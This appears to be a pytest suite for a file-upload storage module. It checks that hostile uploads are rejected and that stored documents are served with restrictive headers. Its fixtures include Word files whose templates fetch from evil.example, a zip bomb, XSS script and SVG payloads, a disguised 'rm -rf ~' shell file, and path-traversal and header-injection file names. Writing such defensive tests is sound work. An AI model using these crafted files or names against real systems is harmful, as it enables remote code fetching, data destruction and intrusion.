"""Hostile files: what they are is judged by what is in them, and judging them costs next to nothing."""

import io
import struct
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from db.clock import FrozenClock
from db.database import Database
from db.errors import DomainError
from db.scope import StaffRole
from db.storage import MAX_SIZE, MEGABYTE, Storage
from tests.applications.support import PDF, PNG, docx
from tests.support.panel import Visitor, add_staff, make_panel
from tests.trust.planted import Planted, plant

TEMPLATE = b"""<Relationships><Relationship Id="r1" Target="https://evil.example/x.dotm" TargetMode="External"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>"""
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
SCRIPT = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def directory_of_nothing() -> bytes:
    """A zip that is all table of contents: 20 MB of entries for no files."""
    name = b"[Content_Types].xml"
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    first = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    count = (MAX_SIZE - len(first) - 22) // len(entry)
    content = first + entry * count
    return content + struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(entry) * count, len(first), 0
    )


def bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * 150 * MEGABYTE)
    return buffer.getvalue()


RELS = "word/_rels/settings.xml.rels"
DOCUMENT = "http://schemas.openxmlformats.org/package/2006/relationships"
PREFIXED = (
    TEMPLATE.replace(b"<Relationships>", f'<p:Relationships xmlns:p="{DOCUMENT}">'.encode())
    .replace(b"<Relationship ", b"<p:Relationship ")
    .replace(b"</Relationships>", b"</p:Relationships>")
)
PICTURE = TEMPLATE.replace(b"attachedTemplate", b"image")
MACROS = b"""<Types><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"""
OWN_TEMPLATE = TEMPLATE.replace(b"https://evil.example/x.dotm", b"file:///C:\\Users\\Vera\\My%20forms\\x.dotm")
SERVER = TEMPLATE.replace(b"https://evil.example/x.dotm", b"file:///%5C%5Cevil.example\\x.dotm")


def typed(types: bytes) -> bytes:
    """A Word document with content types of its own."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


def with_main_part(name: str) -> bytes:
    """As some programs write it: the main part has another name."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    root = f'<Relationships><Relationship Id="r" Type="{kind}" Target="{name}"/></Relationships>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for part, content in (("[Content_Types].xml", "<Types/>"), ("_rels/.rels", root), (name, "<document/>")):
            archive.writestr(part, content)
    return buffer.getvalue()


FETCHING: dict[str, bytes] = {
    "prefixed names": docx(extra={RELS: PREFIXED}),
    "character references": docx(extra={RELS: TEMPLATE.replace(b'"External"', b'"&#69;xternal"')}),
    "UTF-16": docx(extra={RELS: TEMPLATE.decode().encode("utf-16")}),
    "a megabyte of room": docx(extra={RELS: TEMPLATE.replace(b"<Rel", b"<!--" + b"x- " * 400_000 + b"--><Rel", 1)}),
    "another folder": docx(extra={"custom/_rels/part.xml.rels": TEMPLATE}),
    "the root": docx(extra={"_rels/.rels": TEMPLATE}),
    "an external picture": docx(extra={RELS: PICTURE}),
    "a server's folder": docx(extra={RELS: SERVER}),
    "an entity": docx(extra={RELS: b'<!DOCTYPE r [<!ENTITY e "External">]>' + TEMPLATE}),
    "no XML": docx(extra={RELS: b"<Relationships"}),
    "macros of another name": typed(MACROS),
}


@pytest.mark.parametrize("trick", FETCHING)
def test_a_word_file_that_fetches_or_runs_is_refused_however_it_hides_it(tmp_path: Path, trick: str) -> None:
    """Eight of ten ways around a search for the word «External» passed."""
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(FETCHING[trick])
    with pytest.raises(DomainError, match="document_broken"):
        storage.keep(temporary, "справка.docx")


@pytest.mark.parametrize(
    "content",
    [docx(extra={RELS: OWN_TEMPLATE}), with_main_part("word/document2.xml"), b"\xef\xbb\xbf" + PDF],
    ids=["a template on the author's disk", "document2.xml", "a BOM before the header"],
)
def test_what_honest_programs_write_is_kept(tmp_path: Path, content: bytes) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(content)
    storage.keep(temporary, "справка")


def test_a_picture_of_a_thousand_million_pixels_is_refused(tmp_path: Path) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(PNG[:16] + struct.pack(">2I", 30_000, 30_000) + PNG[24:])
    with pytest.raises(DomainError, match="document_broken"):
        storage.keep(temporary, "x.png")


HOSTILE: dict[str, Callable[[], bytes]] = {
    "page.pdf": lambda: SCRIPT,
    "picture.png": lambda: SVG,
    "shell.jpg": lambda: b"#!/bin/sh\nrm -rf ~",
    "late.pdf": lambda: SCRIPT + PDF,
    "bomb.docx": bomb,
    "directory.docx": directory_of_nothing,
    "macros.docx": lambda: docx(extra={"word/vbaProject.bin": b"x"}),
    "template.docx": lambda: docx(extra={"word/_rels/settings.xml.rels": TEMPLATE}),
    "archive.docx": lambda: docx()[:60],
    "large.pdf": lambda: PDF + b"\0" * MAX_SIZE,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_is_refused_and_leaves_nothing(tmp_path: Path, name: str) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(HOSTILE[name]())
    tracemalloc.start()
    try:
        with pytest.raises(DomainError, match="document_"):
            storage.keep(temporary, name)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * MEGABYTE
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def test_a_document_with_links_is_welcome(tmp_path: Path) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(docx(extra={"word/_rels/document.xml.rels": LINK}))
    assert storage.keep(temporary, "справка.docx").stored_name.endswith(".docx")


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "..\\..\\x.exe", "/etc/cron.d/x", "a\r\nSet-Cookie: x=1.pdf", "\u202efdp.exe", "\0"]
)
def test_a_hostile_name_is_only_shown(tmp_path: Path, name: str) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(PDF)
    kept = storage.keep(temporary, name)
    assert not set(kept.file_name) & set("/\\\r\n\0\u202e")
    assert kept.file_name.endswith(".pdf")
    assert storage.path(kept.stored_name).parent.parent == tmp_path / "documents"


@pytest.fixture
def planted(database: Database, clock: FrozenClock) -> Planted:
    return database.write(plant, first=8001, municipality="chelyabinsky-go", now=clock.now())


@pytest.fixture
def panel(database: Database, clock: FrozenClock, planted: Planted, tmp_path: Path) -> Flask:
    database.write(add_staff, login="region", role=StaffRole.REGIONAL_METHODIST, now=clock.now())
    for name in planted.stored:
        path = Storage(tmp_path).place(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"%PDF-1.4 " + SCRIPT)
    return make_panel(database, clock, tmp_path)


@pytest.mark.parametrize("way", ["", "?download=1"])
def test_a_document_in_the_panel_can_do_nothing(panel: Flask, planted: Planted, way: str) -> None:
    visitor = Visitor(panel)
    visitor.sign_in("region")
    answer: TestResponse = visitor.get(f"/applications/{planted.sent}/documents/{planted.documents[1]}{way}")
    assert answer.status_code == 200
    assert answer.mimetype == "application/pdf"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert "script-src" not in answer.headers["Content-Security-Policy"]
    assert answer.headers["Content-Disposition"].startswith("attachment" if way else "inline")
    assert answer.headers["Cache-Control"] == "no-store"


def test_the_smallest_true_files_are_kept(tmp_path: Path) -> None:
    storage = Storage(tmp_path)
    for content in (PDF, PNG, docx()):
        temporary = storage.incoming()
        temporary.write_bytes(content)
        storage.keep(temporary, "x")
